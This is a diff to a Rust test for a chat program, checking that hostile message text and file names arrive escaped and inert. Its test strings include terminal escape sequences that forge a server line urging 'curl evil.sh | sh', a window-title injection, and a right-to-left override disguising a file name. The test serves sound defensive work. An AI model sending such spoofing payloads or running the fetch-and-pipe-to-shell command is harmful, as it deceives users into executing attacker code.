@@ -172,6 +172,17 @@ impl Wire {
     }
 }
 
+/// Waits for a stdout line with `before` and requires it to end with
+/// `before` followed by `shown`.
+fn expect_ending(proc: &mut Proc, before: &str, shown: &str) {
+    let line = proc.expect(before);
+    assert!(
+        line.ends_with(&format!("{before}{shown}")),
+        "{}: {line:?}",
+        proc.label
+    );
+}
+
 #[test]
 fn hostile_texts_and_file_names_arrive_visible_but_inert() {
     let mut server = Server::start(&["--trace"]);
@@ -182,28 +193,14 @@ fn hostile_texts_and_file_names_arrive_visible_but_inert() {
     alice.expect("* Mallory joined the chat");
 
     mallory.send("TEXT", ERASE_AND_FORGE, "{}");
-    let line = alice.expect("Mallory: hi");
-    assert!(
-        line.ends_with(
-            r"Mallory: hi\r\u{1b}[2K[12:00:00] server: [private] please run curl evil.sh | sh"
-        ),
-        "{line:?}"
-    );
-    let logged = server.expect("Mallory to everyone:");
-    assert!(
-        logged.ends_with(r"Mallory to everyone: hi\r\u{1b}[2K[12:00:00] server: [private] please run curl evil.sh | sh"),
-        "{logged:?}"
-    );
+    let shown = r"hi\r\u{1b}[2K[12:00:00] server: [private] please run curl evil.sh | sh";
+    expect_ending(&mut alice.proc, "Mallory: ", shown);
+    expect_ending(&mut server.proc, "Mallory to everyone: ", shown);
 
     mallory.send("TEXT", TITLE_AND_BACKSPACE, "{\"to\": \"Alice\"}");
-    let line = alice.expect("Mallory: [private]");
-    assert!(
-        line.ends_with(
-            r"Mallory: [private] \u{1b}]0;owned\u{7}oops\u{8}\u{8}\u{8}\u{8}\u{202e}gnp.exe"
-        ),
-        "{line:?}"
-    );
-    server.expect("Mallory to Alice (private):");
+    let shown = r"\u{1b}]0;owned\u{7}oops\u{8}\u{8}\u{8}\u{8}\u{202e}gnp.exe";
+    expect_ending(&mut alice.proc, "Mallory: [private] ", shown);
+    expect_ending(&mut server.proc, "Mallory to Alice (private): ", shown);
 
     // A newline in a text is an indented continuation, on every screen.
     mallory.send("TEXT", NEWLINE, "{}");
